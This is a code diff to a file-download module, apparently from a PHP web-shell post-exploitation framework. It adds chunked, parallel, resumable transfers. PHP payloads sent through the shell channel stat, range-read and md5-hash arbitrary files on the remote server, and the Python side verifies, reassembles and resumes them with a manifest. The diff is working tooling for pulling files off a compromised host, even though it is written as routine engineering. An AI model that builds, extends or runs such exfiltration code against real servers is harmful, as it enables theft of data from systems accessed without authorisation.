@@ -1,10 +1,15 @@
 from core.vectors import PhpCode, ShellCmd, ModuleExec, Os
 from core.module import Module
 from core import messages
+from core import modules
+from core import transfer
 from core.loggers import log
+from concurrent.futures import ThreadPoolExecutor
+import threading
 import random
 import hashlib
 import base64
+import os
 
 
 class Download(Module):
@@ -47,11 +52,28 @@ class Download(Module):
         self.register_arguments([
           { 'name' : 'rpath', 'help' : 'Remote file path' },
           { 'name' : 'lpath', 'help' : 'Local file path' },
-          { 'name' : '-vector', 'choices' : self.vectors.get_names(), 'default' : 'file' }
+          { 'name' : '-vector', 'choices' : self.vectors.get_names(), 'default' : 'file' },
+          { 'name' : '-chunked', 'help' : 'Download in verified, resumable ranges (ignores -vector)', 'action' : 'store_true', 'default' : False },
+          { 'name' : '-chunk-size', 'help' : 'Range size in bytes', 'type' : int, 'default' : 1024 * 1024 },
+          { 'name' : '-parallel', 'help' : 'Ranges downloaded concurrently', 'type' : int, 'default' : 4 },
+          { 'name' : '-retries', 'help' : 'Attempts per range before giving up', 'type' : int, 'default' : 3 }
         ])
 
+        # Not registered as vectors, they are run by the chunked mode only
+        self.stat_vector = PhpCode(
+          "$f='${rpath}';if(@is_readable($f)&&@is_file($f))print(@filesize($f).' '.@filemtime($f));",
+          name = 'stat'
+          )
+        self.md5_vector = PhpCode("print(@md5_file('${rpath}'));", name = 'md5')
+        self.chunk_payload = (
+          "$h=@fopen('%s','rb');if($h){@fseek($h,%i);$d=@fread($h,%i);@fclose($h);print(md5($d).$d);}"
+          )
+
     def run(self, **kwargs):
 
+        if self.args.get('chunked'):
+            return self._run_chunked()
+
         # Check remote file existance
         if not ModuleExec('file_check', [ self.args.get('rpath'), 'readable' ]).run():
             log.warning(messages.module_file_download.failed_download_file)
@@ -91,6 +113,118 @@ class Download(Module):
 
         return result_decoded
 
+    def _fetch_chunk(self, rpath, index, chunk_size, length):
+
+        response = transfer.send_raw(
+            self.chunk_payload % (rpath, index * chunk_size, length),
+            self._get_stored_result('cwd', module = 'file_cd', default = '.')
+        )
+
+        if not response or len(response) < 32:
+            raise ValueError('empty response')
+
+        digest, data = response[:32].decode('ascii', 'replace'), response[32:]
+
+        if len(data) != length or hashlib.md5(data).hexdigest() != digest:
+            raise ValueError('hash mismatch')
+
+        return data
+
+    def _run_chunked(self):
+
+        rpath = self.args.get('rpath')
+        lpath = self.args.get('lpath')
+        chunk_size = max(1, self.args.get('chunk_size'))
+        parallel = max(1, self.args.get('parallel'))
+        retries = max(1, self.args.get('retries'))
+
+        # This also raises the shell_php channel used by transfer.send_raw()
+        stat = self.stat_vector.run(self.args)
+        if not stat or modules.loaded['shell_php'].channel is None:
+            log.warning(messages.module_file_download.failed_download_file)
+            return
+
+        try:
+            size, mtime = ( int(v) for v in stat.split() )
+        except ValueError:
+            log.warning(messages.module_file_download.failed_download_file)
+            return
+
+        chunks = (size + chunk_size - 1) // chunk_size
+        manifest_path = lpath + '.manifest'
+        expected = {
+            'rpath': rpath,
+            'size': size,
+            'mtime': mtime,
+            'chunk_size': chunk_size
+        }
+
+        done = (transfer.load_manifest(manifest_path, expected) if os.path.isfile(lpath) else None) or set()
+        if done:
+            log.info(messages.module_file_download.resuming_s_i_i % (rpath, len(done), chunks))
+
+        try:
+            fd = os.open(lpath, os.O_WRONLY | os.O_CREAT | (0 if done else os.O_TRUNC), 0o644)
+        except OSError as e:
+            log.warning(
+              messages.generic.error_loading_file_s_s % (lpath, str(e)))
+            return
+
+        lock = threading.Lock()
+        failed = []
+
+        def download(index):
+
+            length = min(chunk_size, size - index * chunk_size)
+            for attempt in range(retries):
+                try:
+                    data = self._fetch_chunk(rpath, index, chunk_size, length)
+                    break
+                except Exception as e:
+                    error = str(e)
+            else:
+                log.warning(messages.module_file_download.failed_chunk_i_s % (index, error))
+                with lock:
+                    failed.append(index)
+                return
+
+            os.pwrite(fd, data, index * chunk_size)
+
+            with lock:
+                done.add(index)
+                transfer.save_manifest(manifest_path, expected, done)
+
+        try:
+            os.ftruncate(fd, size)
+            with ThreadPoolExecutor(max_workers = parallel) as pool:
+                list(pool.map(download, [ i for i in range(chunks) if i not in done ]))
+        finally:
+            os.close(fd)
+
+        if failed:
+            log.warning(messages.module_file_download.failed_chunks_manifest_s % manifest_path)
+            return
+
+        # Ranges are verified one by one, this is the end to end check
+        expected_md5 = self.md5_vector.run(self.args)
+        if expected_md5:
+            md5 = hashlib.md5()
+            with open(lpath, 'rb') as resultfile:
+                for block in iter(lambda: resultfile.read(chunk_size), b''):
+                    md5.update(block)
+
+            if md5.hexdigest() != expected_md5:
+                # Start from scratch next time
+                log.warning(messages.module_file_download.failed_md5_check)
+                transfer.remove_manifest(manifest_path)
+                return
+        else:
+            log.debug(messages.module_file_download.skipping_md5_check)
+
+        transfer.remove_manifest(manifest_path)
+
+        return True
+
     def print_result(self, result):
         """Override print_result to avoid to print the content"""
         pass